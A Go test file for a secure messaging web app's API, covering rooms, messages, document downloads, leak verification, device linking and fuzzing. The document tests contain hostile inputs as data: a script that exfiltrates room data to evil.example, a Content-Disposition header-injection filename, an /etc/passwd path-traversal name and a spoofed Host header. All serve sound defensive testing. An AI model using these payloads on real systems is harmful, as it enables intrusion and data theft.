package webapp_test

// The API with a real profile: an in-process backchannel server, two users
// made with the client package, alice's client Attached with its live hub.

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"mime"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"backchannel/canary"
	"backchannel/client"
	"backchannel/live"
	"backchannel/localserver"
	"backchannel/server"
	"backchannel/vault"
	"backchannel/webapp"
)

// fastVault keeps the tests' key derivation cheap.
var fastVault = vault.Params{Time: 1, Memory: 64, Threads: 1}

// profiles is a running server with two users; alice's hub runs.
type profiles struct {
	srv        *localserver.Server
	alice, bob *client.Client
	hub        *live.Hub
}

func newProfiles(t testing.TB) *profiles {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	srv, err := localserver.Start(ctx, filepath.Join(dir, "server"), "127.0.0.1:0", server.Config{OpenRegistration: true}, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Stop() })
	p := &profiles{srv: srv}
	for _, u := range []struct {
		name string
		c    **client.Client
	}{{"alice", &p.alice}, {"bob", &p.bob}} {
		c, err := client.Init(ctx, filepath.Join(dir, u.name), srv.URL, u.name, "", []byte("pw-"+u.name), client.Options{Params: fastVault})
		if err != nil {
			t.Fatalf("init %s: %v", u.name, err)
		}
		t.Cleanup(func() { c.Close() })
		*u.c = c
	}
	p.hub = live.New(p.alice)
	hctx, cancel := context.WithCancel(ctx)
	done := make(chan struct{})
	go func() {
		defer close(done)
		p.hub.Run(hctx)
	}()
	t.Cleanup(func() {
		cancel()
		<-done
	})
	return p
}

// sse is one server-sent event.
type sse struct{ name, data string }

// events opens /api/events as the browser; the stream ends with the test.
func (a *app) events(t *testing.T) <-chan sse {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	req, err := http.NewRequestWithContext(ctx, "GET", a.base+"/api/events", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := a.browser.Do(req)
	if err != nil {
		cancel()
		t.Fatal(err)
	}
	ans := &answer{method: "GET", path: "/api/events", status: resp.StatusCode, header: resp.Header}
	checkSecurityHeaders(t, ans)
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "text/event-stream" {
		resp.Body.Close()
		cancel()
		t.Fatalf("events: %d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	ch := make(chan sse, 64)
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer close(ch)
		defer resp.Body.Close()
		br := bufio.NewReader(resp.Body)
		var ev sse
		for {
			line, err := br.ReadString('\n')
			if err != nil {
				return
			}
			line = strings.TrimRight(line, "\r\n")
			switch {
			case line == "":
				if ev.name != "" {
					a.mu.Lock()
					a.answers = append(a.answers, &answer{method: "EVENT", path: ev.name, status: 200,
						header: http.Header{"Content-Type": {"application/json"}}, body: []byte(ev.data)})
					a.mu.Unlock()
					select {
					case ch <- ev:
					case <-ctx.Done():
						return
					}
				}
				ev = sse{}
			case strings.HasPrefix(line, "event: "):
				ev.name = strings.TrimPrefix(line, "event: ")
			case strings.HasPrefix(line, "data: "):
				ev.data += strings.TrimPrefix(line, "data: ")
			}
		}
	}()
	t.Cleanup(func() {
		cancel()
		<-done
	})
	return ch
}

// waitEvent reads ch until an event named name for which ok holds (nil:
// any), for at most 30 s.
func waitEvent(t *testing.T, ch <-chan sse, name string, ok func(map[string]any) bool) map[string]any {
	t.Helper()
	timeout := time.After(30 * time.Second)
	var seen []string
	for {
		select {
		case ev, open := <-ch:
			if !open {
				t.Fatalf("the event stream ended waiting for %q (seen %q)", name, seen)
			}
			seen = append(seen, ev.name+" "+ev.data)
			var data map[string]any
			if err := json.Unmarshal([]byte(ev.data), &data); err != nil {
				t.Fatalf("event %s: data %q is not a JSON object: %v", ev.name, ev.data, err)
			}
			if ev.name == name && (ok == nil || ok(data)) {
				return data
			}
		case <-timeout:
			t.Fatalf("no %q event in 30 s (seen %q)", name, seen)
		}
	}
}

// decode decodes a JSON answer into v, failing unless it is 200.
func decode(t *testing.T, a *answer, v any) {
	t.Helper()
	if a.status != 200 {
		t.Fatalf("%s, want 200", a)
	}
	if err := json.Unmarshal(a.body, v); err != nil {
		t.Fatalf("%s: %v", a, err)
	}
}

type apiRoom struct {
	ID      string `json:"id"`
	Name    string `json:"name"`
	Mode    string `json:"mode"`
	Marking string `json:"marking"`
	Members []struct {
		Name     string `json:"name"`
		Verified bool   `json:"verified"`
	} `json:"members"`
	Unread int `json:"unread"`
}

type apiMessage struct {
	ID     string `json:"id"`
	Sender string `json:"sender"`
	Kind   string `json:"kind"`
	Text   string `json:"text"`
	Doc    *struct {
		Name string `json:"name"`
		Size int64  `json:"size"`
	} `json:"doc"`
	Delivery *struct {
		State     string `json:"state"`
		Delivered int    `json:"delivered"`
		Of        int    `json:"of"`
	} `json:"delivery"`
	Mine bool `json:"mine"`
}

type sentAnswer struct {
	Message  apiMessage `json:"message"`
	Warnings []string   `json:"warnings"`
}

type roomAnswer struct {
	Room     apiRoom      `json:"room"`
	Messages []apiMessage `json:"messages"`
	Warnings []string     `json:"warnings"`
}

// forbiddenFields are JSON names that would carry what never leaves the Go
// process.
var forbiddenFields = map[string]bool{"key": true, "copy_salt": true, "entry": true, "sha256": true, "marking_key": true, "blob_id": true}

// checkNoSecrets fails if any JSON answer a received contains one of
// secrets or a forbidden field name.
func checkNoSecrets(t *testing.T, a *app, secrets map[string]string) {
	t.Helper()
	a.mu.Lock()
	defer a.mu.Unlock()
	checked := 0
	for _, ans := range a.answers {
		for what, s := range secrets {
			if s != "" && bytes.Contains(ans.body, []byte(s)) {
				t.Errorf("%s %s carries %s", ans.method, ans.path, what)
			}
		}
		if !strings.HasPrefix(ans.header.Get("Content-Type"), "application/json") {
			continue
		}
		var v any
		if err := json.Unmarshal(ans.body, &v); err != nil {
			t.Errorf("%s: not JSON: %v", ans, err)
			continue
		}
		checked++
		var walk func(path string, v any)
		walk = func(path string, v any) {
			switch v := v.(type) {
			case map[string]any:
				for k, x := range v {
					if forbiddenFields[strings.ToLower(k)] {
						t.Errorf("%s %s: field %s%s", ans.method, ans.path, path, k)
					}
					walk(path+k+".", x)
				}
			case []any:
				for _, x := range v {
					walk(path, x)
				}
			}
		}
		walk("", v)
	}
	if checked < 10 {
		t.Errorf("only %d JSON answers checked", checked)
	}
}

// TestUnlockedProfile drives alice's profile through the API: a room,
// a message, a document there and back, the event stream, and no document
// key, hash, copy salt or transcript entry in anything the page receives.
func TestUnlockedProfile(t *testing.T) {
	ctx := context.Background()
	p := newProfiles(t)
	a := startApp(t, webapp.Options{})
	a.login()

	evs := a.events(t)
	waitEvent(t, evs, "locked", nil)
	var touches atomic.Int64
	a.srv.Attach(p.alice, p.hub, func() { touches.Add(1) })
	waitEvent(t, evs, "unlocked", func(d map[string]any) bool { return d["user"] == "alice" })
	waitEvent(t, evs, "state", nil)
	// The idle time counts uses of the window, not the open event stream
	// nor a request without the session.
	a.do(a.stranger, "GET", "/api/rooms", nil)
	a.do(a.stranger, "GET", "/api/rooms", nil, withHost("evil.example:"+a.port), withCookie(a.cookie()+"="+a.token))
	if n := touches.Load(); n != 0 {
		t.Errorf("%d touches before the page used the API", n)
	}

	var st map[string]any
	decode(t, a.api("GET", "/api/state", nil, withHeader(webapp.InputHeader, "1")), &st)
	if st["locked"] != false || st["user"] != "alice" {
		t.Errorf("state %v: want alice, unlocked", st)
	}
	if c, ok := st["connection"].(map[string]any); !ok || c["state"] == nil {
		t.Errorf("state %v: no connection state", st)
	}
	if ans := a.api("GET", "/api/rooms", nil, withHeader(webapp.InputHeader, "1")); ans.status != 200 || strings.TrimSpace(string(ans.body)) != "[]" {
		t.Errorf("no rooms yet: %s, want []", ans)
	}
	if n := touches.Load(); n != 2 {
		t.Errorf("%d touches after two API calls the user caused, want 2", n)
	}
	// The page's own refreshes (no input header) do not keep the agent
	// from locking when nobody is there.
	a.api("GET", "/api/rooms", nil)
	if n := touches.Load(); n != 2 {
		t.Errorf("%d touches after a refresh nobody caused, want 2", n)
	}

	t.Run("room needs a mode and a marking", func(t *testing.T) {
		for _, c := range []struct {
			name   string
			body   string
			status int
		}{
			{"no mode", `{"name":"talks","members":["bob"],"marking":"all"}`, 400},
			{"no marking", `{"name":"talks","members":["bob"],"mode":"on-record"}`, 400},
			{"neither", `{"name":"talks","members":["bob"]}`, 400},
			{"blank marking", `{"name":"talks","members":["bob"],"mode":"on-record","marking":"  "}`, 400},
			{"unknown mode", `{"name":"talks","members":["bob"],"mode":"secret","marking":"all"}`, 400},
			{"unknown marking", `{"name":"talks","members":["bob"],"mode":"on-record","marking":"rot13"}`, 400},
			{"malformed", `{"name":"talks",`, 400},
			{"members not a list", `{"name":"talks","members":"bob","mode":"on-record","marking":"all"}`, 400},
			{"over 1 MiB", `{"name":"` + strings.Repeat("t", 1<<20) + `","members":["bob"],"mode":"on-record","marking":"all"}`, 413},
		} {
			ans := a.do(a.browser, "POST", "/api/rooms", []byte(c.body))
			if ans.status != c.status {
				t.Errorf("%s: %s, want %d", c.name, ans, c.status)
			}
			inPlainWords(t, c.name, ans.apiError(t))
		}
		rs, err := p.alice.Rooms(ctx)
		if err != nil || len(rs) != 0 {
			t.Fatalf("a refused room was created: %v %v", rs, err)
		}
	})

	var created struct {
		Room     apiRoom  `json:"room"`
		Warnings []string `json:"warnings"`
	}
	decode(t, a.api("POST", "/api/rooms", map[string]any{"name": "talks", "members": []string{"bob"}, "mode": "on-record", "marking": "all"}), &created)
	room := created.Room
	if room.ID == "" || room.Name != "talks" || room.Mode != client.ModeOnRecord || room.Marking != "all" {
		t.Fatalf("created %+v", room)
	}
	var names []string
	for _, m := range room.Members {
		names = append(names, m.Name)
	}
	if strings.Join(names, ",") != "alice,bob" && strings.Join(names, ",") != "bob,alice" {
		t.Errorf("members %q, want alice and bob", names)
	}
	if created.Warnings == nil {
		t.Error("warnings is null, want a list")
	}
	var list []apiRoom
	decode(t, a.api("GET", "/api/rooms", nil), &list)
	if len(list) != 1 || list[0].ID != room.ID {
		t.Errorf("rooms %+v, want talks", list)
	}
	roomPath := "/api/rooms/" + room.ID

	text := "We offer 40 percent of the second tranche, payable by Friday the 12th."
	var sent sentAnswer
	decode(t, a.api("POST", roomPath+"/messages", map[string]string{"text": text}), &sent)
	if m := sent.Message; m.ID == "" || !m.Mine || m.Sender != "alice" || m.Kind != client.KindText || m.Text != text {
		t.Errorf("sent %+v", m)
	}
	for _, c := range []struct {
		path string
		body string
	}{
		{roomPath + "/messages", `{"text":"   "}`},
		{roomPath + "/messages", `{}`},
		{roomPath + "/messages", `{"text":`},
		{"/api/rooms/no-such-room/messages", `{"text":"hello"}`},
	} {
		ans := a.do(a.browser, "POST", c.path, []byte(c.body))
		if ans.status < 400 || ans.status >= 500 {
			t.Errorf("%s, want a 4xx", ans)
		}
		inPlainWords(t, ans.String(), ans.apiError(t))
	}

	var hist roomAnswer
	decode(t, a.api("GET", roomPath, nil), &hist)
	var mine *apiMessage
	for i, m := range hist.Messages {
		if m.ID == sent.Message.ID {
			mine = &hist.Messages[i]
		}
	}
	if mine == nil {
		t.Fatalf("the message is not in the room: %+v", hist.Messages)
	}
	if mine.Text != text || !mine.Mine || mine.Delivery == nil {
		t.Fatalf("in the room: %+v", *mine)
	}
	switch mine.Delivery.State {
	case client.DeliveryQueued, client.DeliverySent, client.DeliveryDelivered:
	default:
		t.Errorf("delivery state %q", mine.Delivery.State)
	}
	if mine.Delivery.Of != 1 {
		t.Errorf("delivery %+v: want of 1 (bob)", *mine.Delivery)
	}
	if hist.Room.ID != room.ID || hist.Warnings == nil {
		t.Errorf("room answer %+v", hist)
	}

	// A document there and back: alice downloads her own copy, her text.
	doc := "Terms of the agreement.\nClause 1: 40 percent of the second tranche.\nClause 2: payable by Friday the 12th.\n"
	var shared sentAnswer
	decode(t, a.do(a.browser, "POST", roomPath+"/docs?name=terms.txt", []byte(doc), withHeader("Content-Type", "text/plain")), &shared)
	if m := shared.Message; m.Kind != client.KindDoc || m.Doc == nil || m.Doc.Name != "terms.txt" || m.Doc.Size != int64(len(doc)) || !m.Mine {
		t.Fatalf("shared %+v", m)
	}
	got := a.api("GET", roomPath+"/docs/"+shared.Message.ID, nil)
	if got.status != 200 || string(got.body) != doc {
		t.Fatalf("download: %s, want alice's text", got)
	}
	checkSecurityHeaders(t, got)
	if cd := got.header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.Contains(cd, `filename="terms.txt"`) {
		t.Errorf("Content-Disposition %q", cd)
	}
	if ct := got.header.Get("Content-Type"); ct != "application/octet-stream" {
		t.Errorf("document Content-Type %q", ct)
	}
	// A shared page must download, never render in the app's origin.
	page := "<html><script>fetch('/api/rooms').then(r=>r.text()).then(t=>fetch('http://evil.example/?'+t))</script></html>"
	decode(t, a.do(a.browser, "POST", roomPath+"/docs?name=invite.html", []byte(page)), &shared)
	got = a.api("GET", roomPath+"/docs/"+shared.Message.ID, nil)
	if got.status != 200 || string(got.body) != page {
		t.Fatalf("download: %s", got)
	}
	if ct, cd := got.header.Get("Content-Type"), got.header.Get("Content-Disposition"); ct != "application/octet-stream" || !strings.HasPrefix(cd, "attachment;") {
		t.Errorf("an HTML document answers Content-Type %q, Content-Disposition %q: it would render", ct, cd)
	}
	// A name the sender chose cannot break out of Content-Disposition.
	for _, name := range []string{`a"; filename=evil.exe; x=".txt`, "Vertrag für Ä 100%.pdf"} {
		decode(t, a.do(a.browser, "POST", roomPath+"/docs?name="+url.QueryEscape(name), []byte("%PDF-1.7 not really")), &shared)
		got = a.api("GET", roomPath+"/docs/"+shared.Message.ID, nil)
		disp, params, err := mime.ParseMediaType(got.header.Get("Content-Disposition"))
		if got.status != 200 || err != nil || disp != "attachment" || params["filename"] != name {
			t.Errorf("%q: %d Content-Disposition %q: %q %v %v", name, got.status, got.header.Get("Content-Disposition"), disp, params, err)
		}
	}
	for _, c := range []struct {
		name, path string
		opts       []opt
		status     int
	}{
		{"no name", roomPath + "/docs", nil, 400},
		{"a path for a name", roomPath + "/docs?name=..%2F..%2Fetc%2Fpasswd", nil, 400},
		{"no length", roomPath + "/docs?name=x.txt", []opt{withChunkedBody()}, http.StatusLengthRequired},
	} {
		ans := a.do(a.browser, "POST", c.path, []byte(doc), c.opts...)
		if ans.status != c.status {
			t.Errorf("%s: %s, want %d", c.name, ans, c.status)
		}
		inPlainWords(t, c.name, ans.apiError(t))
	}
	if ans := a.api("GET", roomPath+"/docs/no-such-doc", nil); ans.status < 400 || ans.status >= 500 {
		t.Errorf("%s, want a 4xx", ans)
	} else {
		ans.apiError(t)
	}

	// Bob writes; alice's page hears of it through the event stream.
	if _, err := p.bob.Sync(ctx); err != nil {
		t.Fatal(err)
	}
	reply := "Agreed, 40 percent, but not a day after the 12th."
	bobs, err := p.bob.Send(ctx, room.ID, reply)
	if err != nil {
		t.Fatal(err)
	}
	waitEvent(t, evs, "update", func(d map[string]any) bool {
		n, _ := d["received"].(float64)
		return n > 0
	})
	decode(t, a.api("GET", roomPath, nil), &hist)
	found := false
	for _, m := range hist.Messages {
		if m.ID == bobs.ID {
			found = true
			// Alice's copy carries her marks (words and invisible ones).
			if m.Sender != "bob" || m.Kind != client.KindText || m.Mine || m.Delivery != nil ||
				canary.Canonicalize(m.Text) != canary.Canonicalize(reply) {
				t.Errorf("bob's message %+v", m)
			}
		}
	}
	if !found {
		t.Errorf("bob's reply is not in the room: %+v", hist.Messages)
	}
	if ans := a.api("POST", roomPath+"/read", map[string]string{"up_to": ""}); ans.status != http.StatusNoContent {
		t.Errorf("read: %s", ans)
	}
	decode(t, a.api("GET", "/api/rooms", nil), &list)
	if len(list) != 1 || list[0].Unread != 0 {
		t.Errorf("after reading: %+v", list)
	}

	// The other endpoints' answers go into the leak check too.
	var contact map[string]any
	decode(t, a.api("GET", "/api/contacts/bob", nil), &contact)
	if contact["name"] != "bob" || contact["safety_number"] == nil {
		t.Errorf("contact %v", contact)
	}
	var devices []map[string]any
	decode(t, a.api("GET", "/api/devices", nil), &devices)
	if len(devices) != 1 || devices[0]["this_device"] != true {
		t.Errorf("devices %v", devices)
	}
	if ans := a.api("GET", "/api/notices", nil); ans.status != 200 {
		t.Errorf("notices: %s", ans)
	}
	if ans := a.api("GET", "/api/devices/link", nil); ans.status != 200 {
		t.Errorf("link state: %s", ans)
	}
	if ans := a.api("GET", "/api/contacts/bob/qr.png", nil); ans.status != 200 || ans.header.Get("Content-Type") != "image/png" {
		t.Errorf("qr: %d %s", ans.status, ans.header.Get("Content-Type"))
	}
	if ans := a.api("POST", "/api/lock", nil); ans.status != http.StatusConflict {
		t.Errorf("lock without Options.Lock: %s, want 409", ans)
	}

	t.Run("odd requests", func(t *testing.T) { checkOdd(t, a) })

	// Nothing the page received holds a document's key or hash, or a
	// message's copy salt or transcript entry.
	_, msgs, err := p.alice.History(ctx, room.ID)
	if err != nil {
		t.Fatal(err)
	}
	secrets := map[string]string{}
	docs := 0
	for _, m := range msgs {
		if m.Doc != nil {
			docs++
			if len(m.Doc.Key) == 0 || len(m.Doc.SHA256) == 0 {
				t.Fatalf("document %s without a key or hash in alice's history", m.ID)
			}
			for _, b := range []struct {
				what string
				v    []byte
			}{{"key", m.Doc.Key}, {"sha256", m.Doc.SHA256}} {
				secrets[m.ID+" "+b.what+" (base64)"] = base64.StdEncoding.EncodeToString(b.v)
				secrets[m.ID+" "+b.what+" (base64url)"] = base64.RawURLEncoding.EncodeToString(b.v)
				secrets[m.ID+" "+b.what+" (hex)"] = hex.EncodeToString(b.v)
			}
		}
		if len(m.CopySalt) > 0 {
			secrets[m.ID+" copy salt"] = base64.StdEncoding.EncodeToString(m.CopySalt)
		}
		if m.Entry != "" {
			secrets[m.ID+" entry"] = m.Entry
		}
	}
	if docs != 4 {
		t.Fatalf("%d documents in alice's history, want 4", docs)
	}
	checkNoSecrets(t, a, secrets)

	// Locked again: the stream says so and the rooms are out of reach.
	a.srv.Detach()
	waitEvent(t, evs, "locked", nil)
	if ans := a.api("GET", "/api/rooms", nil); ans.status != http.StatusLocked {
		t.Errorf("after Detach: %s, want 423", ans)
	}
	var after map[string]any
	decode(t, a.api("GET", "/api/state", nil), &after)
	if after["locked"] != true || after["user"] != nil {
		t.Errorf("state after Detach: %v", after)
	}
}

// TestVerifyAndTrace: a doctored copy of a message does not verify; trace
// refuses a picture, invalid UTF-8 and nothing, in plain words.
func TestVerifyAndTrace(t *testing.T) {
	ctx := context.Background()
	p := newProfiles(t)
	a := startApp(t, webapp.Options{})
	a.login()
	a.srv.Attach(p.alice, p.hub, nil)
	var created struct {
		Room apiRoom `json:"room"`
	}
	decode(t, a.api("POST", "/api/rooms", map[string]any{"name": "talks", "members": []string{"bob"}, "mode": "on-record", "marking": "all"}), &created)
	id := created.Room.ID
	for _, text := range []string{
		"We can offer 40 percent of the second tranche if the annex is signed this week.",
		"The minister will confirm the figures on Thursday morning before the press briefing.",
	} {
		var s sentAnswer
		decode(t, a.api("POST", "/api/rooms/"+id+"/messages", map[string]string{"text": text}), &s)
	}
	if _, err := p.bob.Sync(ctx); err != nil {
		t.Fatal(err)
	}
	if _, err := p.bob.Send(ctx, id, "Understood, I will tell the delegation tonight."); err != nil {
		t.Fatal(err)
	}
	// The leak: bob's copy (with his marks), one number changed.
	_, msgs, err := p.bob.History(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	var lines []string
	doctored := -1
	for _, m := range msgs {
		if m.Kind != client.KindText {
			continue
		}
		line := strings.ToUpper(m.Sender) + ": " + canary.Normalize(m.Text)
		if strings.Contains(line, " 40 ") { // "40 percent" or, marked, "40 per cent"
			line = strings.Replace(line, " 40 ", " 60 ", 1)
			doctored = len(lines) + 1
		}
		lines = append(lines, line)
	}
	if doctored < 0 || len(lines) != 3 {
		t.Fatalf("bob's copy: %q", lines)
	}
	leak := strings.Join(lines, "\n") + "\n"

	var rep struct {
		Lines []struct {
			Line    int    `json:"line"`
			Text    string `json:"text"`
			Verdict string `json:"verdict"`
		} `json:"lines"`
		Summary map[string]any `json:"summary"`
	}
	decode(t, a.do(a.browser, "POST", "/api/verify?room="+id, []byte(leak), withHeader("Content-Type", "text/plain")), &rep)
	if len(rep.Lines) != len(lines) {
		t.Fatalf("verify: %+v, want %d lines", rep, len(lines))
	}
	for _, l := range rep.Lines {
		if l.Line == doctored && l.Verdict == "authentic" {
			t.Errorf("the doctored line %d (%q) verifies as authentic", l.Line, l.Text)
		}
		if l.Line != doctored && l.Verdict != "authentic" {
			t.Errorf("line %d (%q): %s, want authentic", l.Line, l.Text, l.Verdict)
		}
	}
	// Unchanged, every line is authentic.
	undoctored := strings.Replace(leak, " 60 ", " 40 ", 1)
	decode(t, a.do(a.browser, "POST", "/api/verify?room="+id, []byte(undoctored)), &rep)
	for _, l := range rep.Lines {
		if l.Verdict != "authentic" {
			t.Errorf("bob's copy, line %d: %s", l.Line, l.Verdict)
		}
	}

	jpeg := append([]byte{0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, 'J', 'F', 'I', 'F', 0x00, 0x01, 0x01, 0x00}, bytes.Repeat([]byte{0x00, 0x7F, 0xC3}, 200)...)
	for _, c := range []struct {
		name, path string
		body       []byte
	}{
		{"trace a JPEG", "/api/trace?room=" + id, jpeg},
		{"trace invalid UTF-8", "/api/trace?room=" + id, []byte("We can offer 40 percent \xff\xfe of the second tranche")},
		{"trace nothing", "/api/trace?room=" + id, nil},
		{"trace nothing, every room", "/api/trace", []byte{}},
		{"verify nothing", "/api/verify?room=" + id, nil},
		{"verify without a room", "/api/verify", []byte(leak)},
		{"verify a JPEG", "/api/verify?room=" + id, jpeg},
		{"verify invalid UTF-8", "/api/verify?room=" + id, []byte("ALICE: \xff\xfe\xfd")},
	} {
		ans := a.do(a.browser, "POST", c.path, c.body, withHeader("Content-Type", "application/octet-stream"))
		if ans.status != 400 {
			t.Errorf("%s: %s, want 400", c.name, ans)
		}
		inPlainWords(t, c.name, ans.apiError(t))
	}
	// A real trace answers a verdict in words.
	var v struct {
		Kind    string   `json:"kind"`
		Verdict string   `json:"verdict"`
		Named   []string `json:"named"`
		Summary []string `json:"summary"`
	}
	decode(t, a.do(a.browser, "POST", "/api/trace?room="+id, []byte(undoctored)), &v)
	if v.Kind != "text" || v.Verdict == "" || v.Named == nil || len(v.Summary) == 0 {
		t.Errorf("trace: %+v", v)
	}
	checkNoSecrets(t, a, nil)
}

// TestDeviceLinkDoesNotFreezeTheProfile: while a device link started from
// the page waits for the new device (up to client.LinkTimeout, 10 minutes),
// the rest of the app must go on answering.
//
// Found (fixed since; link.go, startLink, with client/link.go LinkDevice):
// LinkDevice holds the client's mutex for the whole link, including the
// wait for the new device, and startLink runs it in the background; every
// endpoint that uses the client (rooms, messages, documents, verify, trace,
// contacts, devices) and the hub's sync then block until the link ends,
// fails or times out. The page freezes after "Link a device" and no message
// arrives meanwhile. It failed on that (the room list does not answer in 5
// s).
func TestDeviceLinkDoesNotFreezeTheProfile(t *testing.T) {
	p := newProfiles(t)
	a := startApp(t, webapp.Options{})
	a.login()
	a.srv.Attach(p.alice, p.hub, nil)
	// Cleanups run last first: the link ends (Detach cancels it) before the
	// app and the hub are stopped.
	t.Cleanup(a.srv.Detach)

	// Linking asks for the passphrase again: the session alone is not
	// enough to add a device to the account.
	for _, body := range []any{nil, map[string]string{}, map[string]string{"passphrase": "not alice's"}} {
		if ans := a.api("POST", "/api/devices/link", body); ans.status != http.StatusUnauthorized && ans.status != http.StatusBadRequest {
			t.Errorf("a link with %v: %s, want 401 or 400", body, ans)
		}
	}
	if ans := a.api("GET", "/api/devices/link", nil); !strings.Contains(string(ans.body), `"none"`) {
		t.Errorf("a refused link started anyway: %s", ans)
	}
	if ans := a.api("DELETE", "/api/devices/1", map[string]string{"passphrase": "not alice's"}); ans.status != http.StatusUnauthorized {
		t.Errorf("removing a device with a wrong passphrase: %s, want 401", ans)
	}
	var link map[string]any
	decode(t, a.api("POST", "/api/devices/link", map[string]string{"passphrase": "pw-alice"}), &link)
	code, _ := link["code"].(string)
	if link["state"] != "waiting" || code == "" {
		t.Fatalf("link: %v, want a code, waiting", link)
	}
	var st map[string]any
	decode(t, a.api("GET", "/api/devices/link", nil), &st)
	if st["state"] != "waiting" || st["code"] != code {
		t.Errorf("link state %v", st)
	}
	if ans := a.api("GET", "/api/devices/link/qr.png", nil); ans.status != 200 || ans.header.Get("Content-Type") != "image/png" {
		t.Errorf("link qr: %d %s", ans.status, ans.header.Get("Content-Type"))
	}
	if ans := a.api("POST", "/api/devices/link", map[string]string{"passphrase": "pw-alice"}); ans.status != http.StatusConflict {
		t.Errorf("a second link: %s, want 409", ans)
	}
	if ans := a.api("POST", "/api/devices/link/confirm", map[string]bool{"match": true}); ans.status != http.StatusConflict {
		t.Errorf("confirming before the new device spoke: %s, want 409", ans)
	}
	if ans := a.api("POST", "/api/devices/link/confirm", map[string]any{}); ans.status != 400 {
		t.Errorf("confirming without saying: %s, want 400", ans)
	}

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "GET", a.base+"/api/rooms", nil)
	resp, err := a.browser.Do(req)
	if err != nil {
		t.Fatalf("GET /api/rooms while a link waits: no answer in 5 s (%v)", err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("GET /api/rooms while a link waits: %d", resp.StatusCode)
	}
}

// FuzzAPIRequest sends arbitrary requests through ServeHTTP, with the
// session cookie and the listener's Host, to a locked server and to an
// unlocked one: nothing panics, and every /api/ error is a JSON {"error"}.
//
// Found (fixed since; api.go:66): the seeds for an unknown /api/ path or
// method fail: the ServeMux answers them in text/plain.
func FuzzAPIRequest(f *testing.F) {
	for _, s := range []struct {
		method, path, body string
	}{
		{"GET", "/api/state", ""},
		{"POST", "/api/unlock", `{"passphrase":"pw"}`},
		{"POST", "/api/unlock", `{"passphrase":`},
		{"GET", "/api/rooms", ""},
		{"POST", "/api/rooms", `{"name":"x","members":["bob"],"mode":"on-record","marking":"all"}`},
		{"POST", "/api/rooms", `{"members":[null],"mode":"deniable","marking":"off"}`},
		{"GET", "/api/rooms/x", ""},
		{"POST", "/api/rooms/x/messages", `{"text":"hello"}`},
		{"POST", "/api/rooms/x/read", `{"up_to":"y"}`},
		{"POST", "/api/rooms/x/docs?name=a.txt", "hello"},
		{"GET", "/api/rooms/x/docs/y", ""},
		{"POST", "/api/rooms/x/voice", "RIFF\x00\x00\x00\x00WAVEfmt "},
		{"GET", "/api/rooms/x/voice/y", ""},
		{"POST", "/api/rooms/x/members", `{"user":"carol"}`},
		{"DELETE", "/api/rooms/x/members/bob", ""},
		{"GET", "/api/contacts/bob", ""},
		{"GET", "/api/contacts/%00/qr.png", ""},
		{"POST", "/api/contacts/nobody/verify", ""},
		{"POST", "/api/contacts/bob/accept", ""},
		{"GET", "/api/notices", ""},
		{"GET", "/api/devices", ""},
		{"DELETE", "/api/devices/4294967296", ""},
		{"GET", "/api/devices/link", ""},
		{"GET", "/api/devices/link/qr.png", ""},
		{"POST", "/api/devices/link/confirm", `{"match":true}`},
		{"POST", "/api/verify?room=x", "ALICE: hello"},
		{"POST", "/api/trace", "\xff\xd8\xff\xe0"},
		{"POST", "/api/trace", "ID3\x04\x00"},
		{"GET", "/api/events", ""},
		{"POST", "/api/lock", ""},
		{"GET", "/api/nope", ""},   // fails on the bug: 404 in text/plain
		{"PUT", "/api/state", ""},  // fails on the bug: 405 in text/plain
		{"GET", "/api//state", ""}, // a redirect
		{"GET", "/", ""},
	} {
		f.Add(s.method, s.path, []byte(s.body))
	}

	locked := startApp(f, webapp.Options{Unlock: func(context.Context, []byte) error { return vault.ErrWrongPassphrase }})
	p := newProfiles(f)
	unlocked := startApp(f, webapp.Options{})
	unlocked.srv.Attach(p.alice, p.hub, nil)
	f.Cleanup(unlocked.srv.Detach) // ends a device link the fuzzer started

	f.Fuzz(func(t *testing.T, method, path string, body []byte) {
		for _, a := range []*app{locked, unlocked} {
			// The event stream (however its path is spelt) answers until
			// the request ends. Both requests end well within the 10 s
			// after which the fuzzing engine calls an input a hang.
			timeout := 3 * time.Second
			if strings.Contains(strings.ToLower(path), "event") || strings.Contains(path, "%") {
				timeout = 200 * time.Millisecond
			}
			ctx, cancel := context.WithTimeout(context.Background(), timeout)
			req, err := http.NewRequestWithContext(ctx, method, "http://"+a.addr+"/"+strings.TrimPrefix(path, "/"), bytes.NewReader(body))
			if err != nil {
				cancel()
				return
			}
			req.Host = a.addr
			req.RemoteAddr = "127.0.0.1:40000"
			req.AddCookie(&http.Cookie{Name: a.cookie(), Value: a.token})
			w := httptest.NewRecorder()
			a.srv.ServeHTTP(w, req)
			cancel()
			res := w.Result()
			if res.StatusCode < 400 || !strings.HasPrefix(req.URL.Path, "/api/") {
				continue
			}
			ans := &answer{method: method, path: path, status: res.StatusCode, header: res.Header, body: w.Body.Bytes()}
			if msg := ans.apiError(t); msg == "" && !t.Failed() {
				t.Errorf("%s: an empty error", ans)
			}
		}
	})
}
